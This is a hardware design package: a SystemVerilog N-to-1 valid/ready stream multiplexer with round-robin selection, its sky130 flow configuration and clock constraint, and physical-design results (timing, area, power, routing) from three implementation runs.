==> src/rtl/mux_nto1_stream.sv <==
// N-to-1 valid/ready stream mux (fixed select or round-robin) with a registered output stage.
// Latency 1 cycle, 1 word/clk; output stalls hold the word and deassert every in_ready.
module mux_nto1_stream #(
   parameter int DATA_W = 8,
   parameter int N_CH   = 4,
   parameter int SEL_W  = 2
) (
   input  logic                   clk,
   input  logic                   rst_n,
   input  logic                   rr_en,
   input  logic [SEL_W-1:0]       sel,
   input  logic [N_CH*DATA_W-1:0] in_data,
   input  logic [N_CH-1:0]        in_valid,
   output logic [N_CH-1:0]        in_ready,
   output logic [DATA_W-1:0]      out_data,
   output logic                   out_valid,
   input  logic                   out_ready,
   output logic [SEL_W-1:0]       out_chan
);

   logic [SEL_W-1:0]  rr_ptr;
   logic [SEL_W-1:0]  rr_idx;
   logic              rr_hit;
   logic [SEL_W:0]    cand;
   logic [SEL_W-1:0]  chosen;
   logic              chosen_ok;
   logic              chosen_vld;
   logic [DATA_W-1:0] chosen_dat;
   logic              load;
   logic              fire;

   assign load = !out_valid || out_ready;

   // Scan channels starting at rr_ptr; rr_ptr is always < N_CH, so one subtraction wraps.
   always_comb begin
      rr_hit = 1'b0;
      rr_idx = '0;
      cand   = '0;
      for (int k = 0; k < N_CH; k++) begin
         cand = {1'b0, rr_ptr} + (SEL_W+1)'(k);
         if (cand >= (SEL_W+1)'(N_CH)) begin
            cand = cand - (SEL_W+1)'(N_CH);
         end
         if (!rr_hit && in_valid[cand[SEL_W-1:0]]) begin
            rr_hit = 1'b1;
            rr_idx = cand[SEL_W-1:0];
         end
      end
   end

   always_comb begin
      if (rr_en) begin
         chosen    = rr_idx;
         chosen_ok = rr_hit;
      end else begin
         chosen    = sel;
         chosen_ok = ({1'b0, sel} < (SEL_W+1)'(N_CH));
      end
   end

   // Mux by equality so an out-of-range select never indexes past the bus.
   always_comb begin
      chosen_vld = 1'b0;
      chosen_dat = '0;
      in_ready   = '0;
      for (int i = 0; i < N_CH; i++) begin
         if (chosen_ok && chosen == SEL_W'(i)) begin
            chosen_vld  = in_valid[i];
            chosen_dat  = in_data[i*DATA_W +: DATA_W];
            in_ready[i] = load;
         end
      end
   end

   assign fire = chosen_ok && chosen_vld && load;

   always_ff @(posedge clk or negedge rst_n) begin
      if (!rst_n) begin
         out_valid <= 1'b0;
         out_data  <= '0;
         out_chan  <= '0;
         rr_ptr    <= '0;
      end else begin
         if (fire) begin
            out_valid <= 1'b1;
            out_data  <= chosen_dat;
            out_chan  <= chosen;
            if (rr_en) begin
               rr_ptr <= (chosen == SEL_W'(N_CH-1)) ? '0 : chosen + 1'b1;
            end
         end else if (out_ready) begin
            out_valid <= 1'b0;
         end
      end
   end

endmodule
==> config.mk <==
export PLATFORM = sky130hd
export DESIGN_NAME = mux_nto1_stream
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/mux_nto1_stream.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CORE_MARGIN = 10
export CORE_UTILIZATION = 44
export DETAILED_ROUTE_END_ITERATION = 8
export PLACE_DENSITY = 0.86
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
==> constraint.sdc <==
create_clock -name clk -period 3.96 [get_ports clk]
set_input_delay 0 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 0 -clock clk [all_outputs]
set_load 0.01 [all_outputs]
==> results by group, run 1 <==
Cells and area
  – Final Non-Filler Cells: 184
  – Antenna diodes: 0
  – Layout cells sized above 1: between 40% and 50%
  – Number of nets in the layout: slightly above 200
  – Syn-to-layout area delta: 31.2%

Logic synthesis
  – Largest family of logic cells by synthesized area: compound AO/OA/AOI/OAI gates
  – Synth Area per Inst: 10.1 µm²
  – Post-synth design cell area: 1020 µm²
  – Synth Area in Simple Gates: between 10% and 20%
  – Yosys cell types: 35
  – Number of synthesized flops with an enable pin: 0
  – Synth warn: 0
  – Mux cell area share after synthesis: 15.4%
  – #FFs+latches synth: 13
  – Seq/Total Area, Yosys: 32.0%
  – Mapped Nets: 147
  – Synth Area in Compound Gates: 20.6%
  – Primary FF master, synth: dfrtp_1
  – Post-Synth XOR/XNOR Area: 0%
  – Post-Synth Adder-Cell Area: 4.93%
  – Syn Inst Count: 101
  – Ys async rst share: 100%

Setup path
  – R2R depth: 9
  – Reg2reg end: out_chan[0]
  – Critical Path RT: 4.12 ns
  – Crit-path max FO: 10
  – R2r startpoint: rr_ptr[1]
  – Worst Setup End Kind: register
  – Critical path class: register to register
  – Worst Path Arrival: roughly 3.6 ns
  – CP endpoint: out_chan[0]
  – CP startpoint: rr_ptr[1]
  – Worst R2R Setup Slack: 0.50 ns
  – Startpoint Class: register

Power and ir drop
  – PD cells: 572 nW/µm²
  – NetSw: about 290 µW
  – Clock network power share: 10.3%
  – Sequential power share: 31.8%
  – Maximum vdd drop: 0.272 mV
  – Switching share of power: between 30% and 40%
  – Combinational power share: roughly 58%
  – Internal power: 472 µW
  – LEAKAGE: a little over 0.0007 µW
  – Final Power: 762 µW

Placement
  – RD Place Congestion: 0.868
  – Port bufs: 56
  – Placed insts: 179
  – Final HPWL from detailed placement: 2580 µm
  – Setup WS pre-CTS: around 0.56 ns

Detailed routing
  – DRC: 0
  – Initial drt markers: 22
  – DR vias: 976
  – WL final: a little under 3000 µm
  – WL per Instance: 16.0 µm
  – First-pass iteration count of the detailed router: 4
  – DRT antenna net count: 0
  – Vias per inst: 5.30

Worst hold path
  – Hold_sp: out_ready
  – Hold Path Depth: 3
  – HP Class: primary input to register

Clock network
  – Hold-fix buffers, CTS: 1
  – Clk slew on worst S/H paths: 0.07 ns
  – Postcts setup bufs: 0
  – Post-CTS Resized: 0
  – Longest Clk Path Bufs: 2
  – Clock Latency Late Sink: 0.27 ns
  – CTS tree: done
  – H-tree level count: 1
  – Num Clock Sinks: 13
  – Root Driver: clkbuf_4
  – CTS Buf Count: 3

Global route
  – GRT Overall Usage: 12.3%
  – Vias in the first global route: 1049
  – Largest net degree at the start of global routing: 16
  – First-pass GRT wire length: 4510 µm
  – Initial antenna violation count: 0
  – Congestion Overflow GR: 0

Floorplanning
  – Starting Density: 45.9%
  – Die ar.: roughly 4600 µm²
  – Die outline height: 68.1 µm
  – IO Pins: 57
  – # rows: 17
  – Placeable core area: ~2200 µm²
  – DIE WIDTH: 68.1 µm

Timing
  – Final Hold Vio Count: 0
  – Max-slew violation count: 0
  – Final setup viols: 0
  – Worst hold slack: around 0.084 ns
  – Clock period minus worst slack: 3.46 ns
  – Total Neg Setup Slack: 0 ns
  – Final WS setup: 0.504 ns
  – Fmax: 289 MHz
  – Clock Skew: 0.00155 ns
  – RSZ-0062 raised after global routing: no
  – Relative slew slack: 45.2%
  – Worst Max-Slew Pin Slew: 0.811 ns
  – Fin crit share: between 80 and 90%

Run
  – Max cap viols: 0

Outcome
  – Status: complete, no violations
==> kinds of logic after synthesis <==
group,after synthesis
adder cells (fa/ha/maj),4
AND/OR/NAND/NOR,31
flip-flops,13
buffers and inverters,16
AO/OA/AOI/OAI,26
multiplexers,11
==> stage by stage <==
| stage | instance area [µm²] | util (%) |
|---|---|---|
| 2_1_floorplan | 1020 | - |
| 3_3_place_gp | 1300 | 58.6 |
| 3_5_place_dp | 1300 | 58.6 |
| 4_1_cts | 1330 | 60.2 |
| 5_1_grt | 1330 | 60.2 |
| 6_report | 1330 | 60.2 |
==> worst min path at each step <==
stage	endpoint	slack, ns
detailed placement	out_data[2]	-0.11
global placement	out_data[0]	-0.12
finish	out_valid	0.08
CTS	out_valid	0.08
global route	out_valid	0.09
floorplan	out_chan[0]	-0.30
==> state kept, by name (all words and copies together) (netlist names) <==
signal     cells
rr_ptr         2
out_data       8
out_valid      1
out_chan       2
==> cells in the final DEF, fill, tap and decap left out, types with 2 or more instances in the layout <==
cell       synthesis  final
a2111oi_0          5      5
nor2b_1            2      2
nand2_1            2      2
mux2_4             9      9
nand2b_1           4      4
buf_2              0     56
and3_1             2      2
or3b_1             2      2
o22ai_1            3      3
a221oi_1           8      8
nor3_1             5      5
and2_1             3      3
nor3b_1            5      5
o21ai_0            3      3
inv_1             10     10
clkbuf_4           0      3
dfrtp_1           13     13
ha_1               4      4
==> cell usage after synthesis (all sizes together) (2+ instances only) <==
| cell | count | area [µm²] |
|---|---|---|
| mux2 | 10 | 146 |
| nand2b | 4 | 25.0 |
| or3b | 2 | 17.5 |
| and3 | 2 | 12.5 |
| buf | 2 | 18.8 |
| ha | 4 | 50.1 |
| nor3 | 6 | 35.0 |
| nor2b | 2 | 12.5 |
| nor3b | 5 | 37.5 |
| a2111oi | 5 | 43.8 |
| clkbuf | 4 | 16.3 |
| o22ai | 3 | 18.8 |
| and2 | 3 | 18.8 |
| nand2 | 2 | 7.51 |
| a221oi | 8 | 70.1 |
| dfrtp | 13 | 325 |
| inv | 10 | 37.5 |
| o21ai | 3 | 15.0 |
==> cell type report <==
cell class	count	area, µm²
well taps	28	35.0
fillers	198	880
clock buffers	4	26.3
flip-flops and latches	13	325
repair buffers	57	290
multi-input cells	72	618
inverters	10	37.5
==> power by group through the flow <==
stage / Clock [µW] / Combinational [µW] / Sequential [µW]
CTS: 78.8 / 447 / 243
global placement: 0 / 430 / 239
detailed placement: 0 / 444 / 246
finish: 78.6 / 442 / 242
floorplan: 0 / 288 / 262
global route: 86.9 / 486 / 251
==> routing by layer <==
layer  share of wire [%]  track usage [%]  vias to the layer above
met5                   0                0                        -
met1                  43             14.4                      434
met4                 2.6             6.78                        0
met3                 7.8             3.75                        7
met2                  47             19.8                       43
li1                    -                -                      492
==> critical path: stages (launching register included) <==
cell	delay [ns]
dfrtp_1	0.43
nand2b_1	0.18
and3_1	0.18
o41ai_1	0.67
inv_1	0.18
ha_1	0.35
a211o_1	0.32
o221ai_2	0.20
or3_1	0.49
mux2_4	0.35
No activity file was read; power rests on OpenSTA's default activity.
==> run 2: changes to the inputs <==
- RECOVER_POWER: default -> 25
==> results by group, run 2 (synthesis gave the netlist of run 1 again) <==
Setup path
  – Critical Path RT: 4.12 ns (about the same)
  – R2r startpoint: rr_ptr[1]
  – CP Cell Sequence: nand2b_1 > and3_1 > o41ai_1 > inv_1 > ha_1 > a211o_1 > o221ai_2 > or3_1 > mux2_4
  – Crit-path max FO: 10 (unchanged)
  – Worst Path Arrival: 3.62 ns (about the same)
  – CP startpoint: rr_ptr[1]
  – WP buf/inv: 1 (unchanged)
  – CP peak stage delay: 0.67 ns (about the same)
  – Critical path class: register to register
  – Worst Setup End Kind: register
  – CP top delay family: compound AO/OA/AOI/OAI gates
  – Startpoint Class: register
  – Critical-path top delay cell: o41ai_1

Timing
  – Worst Max-Slew Pin Slew: 0.811 ns (unchanged)
  – Final setup viols: 0 (unchanged)
  – Clock Skew: 0.00155 ns (unchanged)
  – Worst hold slack: 0.0839 ns (unchanged)
  – Max-slew violation count: 0 (unchanged)
  – Clock period minus worst slack: 3.46 ns (unchanged)
  – Final Hold Vio Count: 0 (unchanged)
  – RSZ-0062 raised after global routing: no
  – Fmax: 289 MHz (unchanged)
  – Total Neg Setup Slack: 0 ns (unchanged)
  – Relative slew slack: 45.2% (unchanged)
  – Fin crit share: 87.3% (unchanged)

Floorplanning
  – IO Pins: 57 (unchanged)
  – Starting Density: 45.9% (unchanged)
  – DIE WIDTH: 68.1 µm (unchanged)
  – Die outline height: 68.1 µm (unchanged)
  – Die ar.: 4630 µm² (unchanged)
  – # rows: 17 (unchanged)
  – Placeable core area: 2210 µm² (unchanged)

Cells and area
  – Final Non-Filler Cells: 184 (unchanged)
  – Largest registers: out_data x8, out_chan x2, rr_ptr x2
  – Fin area: 1330 µm² (about the same)
  – Layout cells sized above 1: 46.2% (-0.64 points)
  – Syn-to-layout area delta: 31.0% (about the same)
  – Commonest non-fill, non-tap cell in the layout: buf_2
  – Leading cell types in the layout, fill and taps excluded: buf_2 (55), dfrtp_1 (13), inv_1 (10)
  – Max FFs per register: 8 (unchanged)
  – Antenna diodes: 0 (unchanged)
  – Number of nets in the layout: 203 (unchanged)
  – Register with the most flip-flops: out_data

Clock network
  – CTS Buf Count: 3 (unchanged)
  – Longest Clk Path Bufs: 2 (unchanged)
  – Clock Latency Late Sink: 0.27 ns (about the same)
  – Post-CTS Resized: 0 (unchanged)
  – H-tree level count: 1 (unchanged)
  – Clk slew on worst S/H paths: 0.07 ns (about the same)
  – Root Driver: clkbuf_4
  – CTS tree: done
  – Num Clock Sinks: 13 (unchanged)

Power and ir drop
  – PD cells: 573 nW/µm² (about the same)
  – Maximum vdd drop: 0.272 mV (about the same)
  – LEAKAGE: 0.000702 µW (-0.39%)

Global route
  – Vias in the first global route: 1049 (unchanged)
  – Initial antenna violation count: 0 (unchanged)
  – Congestion Overflow GR: 0 (unchanged)
  – Largest net degree at the start of global routing: 16 (unchanged)
  – First-pass GRT wire length: 4510 µm (unchanged)
  – GRT Overall Usage: 12.3% (unchanged)

Worst hold path
  – Hold_sp: out_ready
  – HP Class: primary input to register

Placement
  – Port bufs: 56 (unchanged)
  – Post-placement cell area: 1300 µm² (unchanged)
  – Placed insts: 179 (unchanged)
  – RD Place Congestion: 0.868 (unchanged)
  – Final HPWL from detailed placement: 2580 µm (unchanged)

Detailed routing
  – DRT antenna net count: 0 (unchanged)
  – WL per Instance: 16.0 µm (unchanged)
  – Initial drt markers: 23 (+4.5%)
  – First-pass iteration count of the detailed router: 4 (unchanged)
  – DR vias: 977 (+0.10%)
  – DRC: 0 (unchanged)
  – WL final: 2940 µm (unchanged)
  – Vias per inst: 5.31 (+0.10%)

Run
  – Max cap viols: 0 (unchanged)

Outcome
  – Status: complete, no violations
[run 2: cell count changes in the layout (fill, tap and decap cells not counted)]
cell / previous run / this run
buf_2: 56 / 55
clkbuf_1: 1 / 2
[run 2: worst paths after layout]
check                         endpoint  depth (start not counted)  slack [ns]
setup / recovery           out_chan[0]                          9        0.50
min in group asynchronous  out_data[6]                          2        0.26
setup reg to reg           out_chan[0]                          9        0.50
max in group asynchronous  out_data[5]                          2        3.30
hold / removal               out_valid                          3        0.08
hold reg to reg            out_data[0]                          1        0.52
[run 2: where the power goes]
group	internal [µW]	switching, µW	leakage (µW)
registers	200	42.5	0.000155
clock network	39.1	39.5	0.0000150
logic	233	209	0.000532
total	471	291	0.000702
[run 2: timing repair]
item	in CTS	in global routing
buffers inserted	0	0
endpoints found under the setup margin	0	0
hold buffers	1	0
endpoints found under the hold margin	13	0
[run 2: metrics by stage]
stage,util [%],worst slack (ns),total power [µW]
global route,60.2,0.283,824
CTS,60.2,0.552,769
global placement,58.6,0.831,669
floorplan,-,1.19,550
detailed placement,58.6,0.558,690
finish,60.2,0.504,762
[run 2: area by class of cell]
| class | instances | area (µm²) |
|---|---|---|
| tap | 28 | 35.0 |
| multi-input combinational | 72 | 618 |
| sequential | 13 | 325 |
| inverter | 10 | 37.5 |
| timing repair buffer | 57 | 289 |
| clock buffer | 4 | 26.3 |
| fill | 199 | 881 |
[run 2: routing by layer]
layer	vias to the layer above	part of all wire (%)	track usage, %
li1	493	-	-
met1	434	43	14.4
met2	43	47	19.8
met3	7	7.8	3.75
met4	0	2.6	6.78
met5	-	0	0
[run 2: worst reg2reg max path: cells and delay by family (launching register included)]
family / cells / cell delay, ns
AOI/OAI and AO/OA: 3 / 1.19
muxes: 1 / 0.35
adders and majority gates: 1 / 0.35
DFF: 1 / 0.43
and+or+nand+nor: 3 / 0.85
buffers and inverters: 1 / 0.18
==> run 3: changes to the inputs <==
- CORE_UTILIZATION: 44 -> 47
- PLACE_DENSITY: 0.86 -> 0.9
- clock period: 3.96 -> 4.44 ns (I/O delays scaled with it)
==> results by group, run 3 (synthesis gave the netlist of run 1 again) <==
Detailed routing
  – DRC: 0 (unchanged)
  – WL final: 3180 µm (+7.9%)
  – Vias per inst: 5.60 (+5.4%)
  – DRT antenna net count: 0 (unchanged)
  – DR vias: 1024 (+4.8%)
  – Initial drt markers: 33 (+43%)
  – First-pass iteration count of the detailed router: 4 (unchanged)
  – WL per Instance: 17.3 µm (+8.5%)

Clock network
  – Longest Clk Path Bufs: 2 (unchanged)
  – Root Driver: clkbuf_4
  – Clk slew on worst S/H paths: 0.07 ns (about the same)
  – H-tree level count: 1 (unchanged)
  – Num Clock Sinks: 13 (unchanged)
  – CTS Buf Count: 3 (unchanged)
  – Postcts setup bufs: 0 (unchanged)
  – Clock Latency Late Sink: 0.27 ns (about the same)
  – CTS tree: done

Placement
  – Final HPWL from detailed placement: 2660 µm (+3.0%)
  – Setup WS pre-CTS: 1.04 ns (+0.477 ns)
  – RD Place Congestion: 0.842 (-2.9%)
  – Post-placement cell area: 1290 µm² (about the same)
  – Port bufs: 56 (unchanged)

Floorplanning
  – # rows: 16 (-1)
  – IO Pins: 57 (unchanged)
  – DIE WIDTH: 66.5 µm (-2.3%)
  – Starting Density: 50.7% (+4.8 points)
  – Placeable core area: 2000 µm² (-9.5%)
  – Die outline height: 66.5 µm (-2.3%)
  – Die ar.: 4420 µm² (-4.5%)

Cells and area
  – Register with the most flip-flops: out_data
  – Number of nets in the layout: 203 (unchanged)
  – Sequential Area: 325 µm² (unchanged)
  – Syn-to-layout area delta: 30.9% (about the same)
  – Multi-input gate area: 618 µm² (unchanged)
  – Largest registers: out_data x8, out_chan x2, rr_ptr x2
  – Antenna diodes: 0 (unchanged)
  – Fin area: 1330 µm² (about the same)
  – Max FFs per register: 8 (unchanged)
  – Final core occ: 66.4% (+6.3 points)
  – Layout cells sized above 1: 46.2% (unchanged)
  – Commonest non-fill, non-tap cell in the layout: buf_2
  – Filler Cell Count: 168 (-16%)
  – Leading cell types in the layout, fill and taps excluded: buf_2 (55), dfrtp_1 (13), inv_1 (10)

Setup path
  – R2R depth: 9 (unchanged)
  – Crit-path max FO: 10 (unchanged)
  – Critical path class: register to register
  – Worst Path Arrival: 3.67 ns (+0.05 ns)
  – Worst Setup End Kind: register
  – Critical Path RT: 4.60 ns (+0.48 ns)
  – Startpoint Class: register
  – Worst R2R Setup Slack: 0.93 ns (+0.42 ns)

Timing
  – Final Hold Vio Count: 0 (unchanged)
  – Max-slew violation count: 0 (unchanged)
  – Final WS setup: 0.927 ns (+0.423 ns)
  – Relative slew slack: 43.4% (-1.8 points)
  – Final setup viols: 0 (unchanged)
  – Clock period minus worst slack: 3.51 ns (+0.0566 ns)
  – Clock Skew: 0.000624 ns (-0.000929 ns)
  – Worst Max-Slew Pin Slew: 0.838 ns (+0.0270 ns)
  – Fmax: 285 MHz (-1.6%)
  – Total Neg Setup Slack: 0 ns (unchanged)
  – Fin crit share: 79.1% (-8.2 points)
  – RSZ-0062 raised after global routing: no

Global route
  – Initial antenna violation count: 0 (unchanged)
  – GRT Overall Usage: 14.3% (+2.0 points)
  – First-pass GRT wire length: 5090 µm (+13%)
  – Congestion Overflow GR: 0 (unchanged)
  – Largest net degree at the start of global routing: 16 (unchanged)
  – Vias in the first global route: 1081 (+3.1%)

Worst hold path
  – HP Class: primary input to register
  – Hold Path Depth: 3 (unchanged)

Power and ir drop
  – Maximum vdd drop: 0.286 mV (+5.4%)
  – LEAKAGE: 0.000702 µW (unchanged)
  – PD cells: 519 nW/µm² (-9.5%)

Run
  – Max cap viols: 0 (unchanged)

Outcome
  – Status: complete, no violations
==> run 3: cell counts in the layout (fill, tap and decap cells not counted) <==
No cell type changed its count.
==> run 3: what timing repair did <==
item / CTS / global route
hold buffers: 1 / 0
endpoints found under the hold margin: 13 / 0
endpoints found under the setup margin: 0 / 0
resized for setup: 0 / 0
==> run 3: layout make-up <==
cell class / instances / share of cell area, %
Clock buffer: 4 / 1.98
Inverter: 10 / 2.82
Multi-Input combinational cell: 72 / 46.5
Sequential cell: 13 / 24.5
Tap cell: 27 / 2.54
Timing Repair Buffer: 57 / 21.7
==> run 3: critical path: stages, from the launching register on <==
cell and delay, ns:
dfrtp_1 0.42, nand2b_1 0.18, and3_1 0.18, o41ai_1 0.69
inv_1 0.17, ha_1 0.35, a211o_1 0.31, o221ai_2 0.23
or3_1 0.51, mux2_4 0.35
==> run 3: layer usage <==
layer | vias up | share of wire [%] | GRT usage (%)
met1 | 479 | 40 | 16.2
met2 | 46 | 52 | 25.7
met5 | - | 0 | 0
li1 | 493 | - | -
met4 | 0 | 1.0 | 3.93
met3 | 6 | 6.9 | 3.68
==> run 3: metrics by stage <==
step	cells	total power [µW]	hold slack [ns]
3_5_place_dp	178	617	-0.104
2_1_floorplan	101	491	-0.296
4_1_cts	183	693	0.0895
6_report	183	690	0.101
3_3_place_gp	178	598	-0.109
5_1_grt	183	742	0.106
==> run 3: final timing paths <==
kind                                   from     endpoint
worst max-delay path              rr_ptr[1]  out_chan[0]
worst min-delay path              out_ready    out_valid
worst max register to register    rr_ptr[1]  out_chan[0]
worst min register to register  out_data[0]  out_data[0]
max in group asynchronous             rst_n  out_data[2]
min in group asynchronous             rst_n  out_chan[0]
==> run 3: power by group <==
| part | switching, µW | total, µW | internal (µW) |
|---|---|---|---|
| clock network | 36.4 | 71.2 | 34.8 |
| logic | 195 | 402 | 208 |
| registers | 38.0 | 216 | 178 |
